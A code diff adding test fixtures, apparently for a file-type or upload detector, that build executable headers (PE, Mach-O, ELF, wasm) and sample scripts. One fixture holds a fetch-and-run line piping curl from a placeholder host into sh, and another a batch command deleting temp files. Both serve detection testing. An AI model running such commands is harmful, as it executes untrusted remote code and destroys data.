@@ -100,7 +100,42 @@ export const isoMedia = (brand: string, handlers: string[] = ["vide"]) =>
   );
 
 export const exe = () => bytes("MZ", [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff], zeros(48), "This program cannot be run in DOS mode.");
+/**
+ * A PE32+ (x86-64) image's headers as a linker writes them: the DOS header whose e_lfanew (at
+ * 0x3c) points at "PE\0\0", the COFF file header, and the start of the optional header.
+ */
+export const pe = () =>
+  bytes(
+    "MZ",
+    [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0x40],
+    zeros(35),
+    le32(0x80), // e_lfanew
+    [0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09, 0xcd, 0x21, 0xb8, 0x01, 0x4c, 0xcd, 0x21],
+    "This program cannot be run in DOS mode.\r\r\n$",
+    zeros(0x80 - 0x40 - 14 - 43),
+    "PE",
+    [0, 0],
+    le16(0x8664), // machine: x86-64
+    le16(3), // sections
+    le32(0x6560_0000),
+    le32(0),
+    le32(0),
+    le16(0xf0), // optional header size
+    le16(0x22), // executable, large address aware
+    le16(0x20b), // PE32+
+  );
+/** DOS's "MZ" followed by printable and control bytes only: no NUL, valid UTF-8, still a program to Windows. */
+export const mzText = () => bytes("MZ", "\x01\x02\x03\x04 \x1b[0m PAYLOAD \x7f\x08");
 export const elf = () => bytes([0x7f], "ELF", [2, 1, 1, 0], zeros(8), le16(2), le16(0x3e), le32(1));
+/** A 64-bit Mach-O header (x86-64, MH_EXECUTE), as written on disk (little-endian). */
+export const machO = () => bytes([0xcf, 0xfa, 0xed, 0xfe], le32(0x0100_0007), le32(3), le32(2), le32(16), le32(1288), le32(0x0020_0085), le32(0));
+/** A universal (fat) Mach-O: big-endian magic, two architectures. */
+export const machOFat = () => bytes([0xca, 0xfe, 0xba, 0xbe], be32(2), be32(0x0100_0007), be32(3), be32(0x1000), be32(0x2000), be32(12));
+export const wasm = () => bytes([0, 0x61, 0x73, 0x6d], le32(1));
+export const shellScript = () => enc.encode("#!/bin/sh\nset -e\ncurl -s https://example.invalid/x | sh\n");
+export const bomShellScript = () => bytes([0xef, 0xbb, 0xbf], "  #!/usr/bin/env python3\nprint('hi')\n");
+export const batchFile = () => enc.encode("@echo off\r\nrem cleanup\r\ndel /q %TEMP%\\*\r\n");
+export const regFile = () => enc.encode("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n");
 
 export type Part = { name: string; filename?: string; type?: string; data: Uint8Array | string };
 
